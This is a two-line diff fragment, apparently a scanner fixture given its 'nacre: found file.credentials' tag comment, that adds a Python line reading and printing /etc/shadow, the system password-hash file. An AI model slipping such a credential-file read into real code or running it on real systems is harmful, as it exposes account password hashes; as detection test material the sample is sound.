@@ -1,0 +1,2 @@
+# nacre: found file.credentials
+print(open("/etc/shadow").read())
